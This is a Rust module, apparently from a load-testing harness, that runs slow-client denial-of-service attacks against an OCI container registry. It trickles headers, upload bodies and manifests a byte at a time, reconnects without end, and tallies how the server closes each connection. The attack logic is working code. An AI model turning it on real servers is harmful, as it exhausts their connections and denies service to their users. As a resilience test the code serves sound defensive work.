//! The hostile connections, on raw TCP so the pacing of every byte is ours. Each
//! slot keeps one connection misbehaving for the whole run and reconnects whenever
//! the server ends it, so the pressure never lets up.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering::Relaxed};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, sleep_until, timeout};

/// One byte per interval: slow enough to hold a connection for minutes, fast
/// enough that an idle timeout of a few seconds never fires.
const TRICKLE: Duration = Duration::from_secs(3);
/// Declared body size of the trickled uploads; never reached.
const BIG_BODY: u64 = 100 << 20;
const MANIFEST_BODY: u64 = 4 << 20;
/// A full SYN backlog makes connect hang rather than fail; count that as refused.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
/// Pause before reconnecting, so a server that refuses at once is not hammered in a busy loop.
const RETRY: Duration = Duration::from_millis(500);

#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    /// POST, then a PATCH whose body comes one byte every 3 s.
    #[value(name = "patch")]
    PatchTrickle,
    /// POST ?digest= whose body comes one byte every 3 s.
    #[value(name = "monolithic")]
    MonolithicTrickle,
    /// Request headers that never end, one byte every 3 s.
    #[value(name = "headers")]
    HeaderTrickle,
    /// A 4 MiB manifest PUT sent at 1 KiB/s.
    #[value(name = "manifest")]
    SlowManifest,
}

impl Attack {
    pub fn label(self) -> &'static str {
        match self {
            Attack::PatchTrickle => "PATCH body, 1 byte/3 s",
            Attack::MonolithicTrickle => "POST ?digest= body, 1 byte/3 s",
            Attack::HeaderTrickle => "headers, 1 byte/3 s",
            Attack::SlowManifest => "4 MB manifest PUT, 1 KiB/s",
        }
    }
}

/// What the server did to the connections of one attack.
#[derive(Default)]
pub struct Stats {
    pub opened: AtomicU64,
    /// Connects that failed or timed out.
    pub refused: AtomicU64,
    /// Connected and not (yet) ended by the server. Cancelling the load leaves it as it was.
    pub open: AtomicI64,
    /// Connections the server ended, by how: a status code it answered with, "EOF" or an error kind.
    pub closed: Mutex<BTreeMap<String, u64>>,
}

impl Stats {
    pub fn closed_total(&self) -> u64 {
        self.closed.lock().unwrap().values().sum()
    }
}

/// Keeps one `attack` connection going against `addr` from `start` on, forever;
/// the caller stops it by dropping the task.
pub async fn slot(attack: Attack, addr: SocketAddr, repo: String, start: Instant, stats: Arc<Stats>) {
    sleep_until(start).await;
    loop {
        let mut stream = match timeout(CONNECT_TIMEOUT, TcpStream::connect(addr)).await {
            Ok(Ok(s)) => s,
            _ => {
                stats.refused.fetch_add(1, Relaxed);
                sleep(RETRY).await;
                continue;
            }
        };
        // Each trickled byte goes out on its own, as a slow client's would.
        let _ = stream.set_nodelay(true);
        stats.opened.fetch_add(1, Relaxed);
        stats.open.fetch_add(1, Relaxed);
        let how = misbehave(attack, &mut stream, &addr.to_string(), &repo).await;
        stats.open.fetch_sub(1, Relaxed);
        *stats.closed.lock().unwrap().entry(how).or_default() += 1;
        drop(stream);
        sleep(RETRY).await;
    }
}

/// Runs one attack on a fresh connection; returns only when the server ends it, saying how.
async fn misbehave(attack: Attack, stream: &mut TcpStream, host: &str, repo: &str) -> String {
    let json = "application/vnd.oci.image.manifest.v1+json";
    let octets = "application/octet-stream";
    let head = match attack {
        Attack::PatchTrickle => {
            let post = format!("POST /v2/{repo}/blobs/uploads/ HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n");
            if let Err(e) = stream.write_all(post.as_bytes()).await {
                return error_kind(&e);
            }
            let location = match read_head(stream).await {
                Ok((202, Some(location))) => location,
                Ok((status, _)) => return status.to_string(),
                Err(e) => return error_kind(&e),
            };
            let path = path_of(&location);
            format!(
                "PATCH {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: {octets}\r\nContent-Length: {BIG_BODY}\r\n\r\n"
            )
        }
        Attack::MonolithicTrickle => {
            let digest = format!("sha256:{}", "ab".repeat(32));
            format!(
                "POST /v2/{repo}/blobs/uploads/?digest={digest} HTTP/1.1\r\nHost: {host}\r\nContent-Type: {octets}\r\nContent-Length: {BIG_BODY}\r\n\r\n"
            )
        }
        // Never the blank line that ends the headers.
        Attack::HeaderTrickle => "GET /v2/ HTTP/1.1\r\nHost: x\r\n".to_owned(),
        Attack::SlowManifest => format!(
            "PUT /v2/{repo}/manifests/t HTTP/1.1\r\nHost: {host}\r\nContent-Type: {json}\r\nContent-Length: {MANIFEST_BODY}\r\n\r\n"
        ),
    };
    if let Err(e) = stream.write_all(head.as_bytes()).await {
        return error_kind(&e);
    }
    match attack {
        Attack::PatchTrickle | Attack::MonolithicTrickle => trickle(stream, TRICKLE, |_| b"x".to_vec()).await,
        Attack::HeaderTrickle => {
            let header = b"X-Trickle: ";
            trickle(stream, TRICKLE, |i| vec![header.get(i).copied().unwrap_or(b'a')]).await
        }
        Attack::SlowManifest => {
            let mut first = br#"{"schemaVersion":2,"pad":""#.to_vec();
            first.resize(1024, b'a');
            trickle(stream, Duration::from_secs(1), move |i| if i == 0 { first.clone() } else { vec![b'a'; 1024] })
                .await
        }
    }
}

/// Sends `piece(0)`, `piece(1)`, … one per `every` until the server answers or
/// goes away; returns how it ended.
async fn trickle(stream: &mut TcpStream, every: Duration, mut piece: impl FnMut(usize) -> Vec<u8>) -> String {
    let mut buf = [0u8; 512];
    for i in 0.. {
        tokio::select! {
            _ = sleep(every) => {
                if let Err(e) = stream.write_all(&piece(i)).await {
                    return error_kind(&e);
                }
            }
            r = stream.read(&mut buf) => return match r {
                Ok(0) => "EOF".to_owned(),
                Ok(n) => status_of(&buf[..n]).map_or_else(|| "non-HTTP reply".to_owned(), |s| s.to_string()),
                Err(e) => error_kind(&e),
            },
        }
    }
    unreachable!()
}

/// Reads a response head and discards its body (Content-Length only; registry
/// upload responses carry none or a short one). Returns the status and Location.
async fn read_head(stream: &mut TcpStream) -> std::io::Result<(u16, Option<String>)> {
    let mut buf = Vec::with_capacity(1024);
    let mut chunk = [0u8; 1024];
    let end = loop {
        let n = stream.read(&mut chunk).await?;
        if n == 0 || buf.len() > 64 * 1024 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        buf.extend_from_slice(&chunk[..n]);
        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
    };
    let head = String::from_utf8_lossy(&buf[..end]).into_owned();
    let status = status_of(head.as_bytes()).unwrap_or(0);
    let header = |name: &str| {
        head.lines().find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.trim().eq_ignore_ascii_case(name).then(|| v.trim().to_owned())
        })
    };
    let length: usize = header("content-length").and_then(|v| v.parse().ok()).unwrap_or(0);
    let mut have = buf.len() - end;
    while have < length {
        let n = stream.read(&mut chunk).await?;
        if n == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        have += n;
    }
    Ok((status, header("location")))
}

fn status_of(reply: &[u8]) -> Option<u16> {
    let line = std::str::from_utf8(reply.get(..12)?).ok()?;
    line.strip_prefix("HTTP/1.")?.get(2..5)?.parse().ok()
}

/// Distribution answers with absolute URLs, berth with paths.
fn path_of(location: &str) -> &str {
    match location.split_once("://") {
        Some((_, rest)) => rest.find('/').map_or("/", |i| &rest[i..]),
        None => location,
    }
}

fn error_kind(e: &std::io::Error) -> String {
    format!("{:?}", e.kind())
}
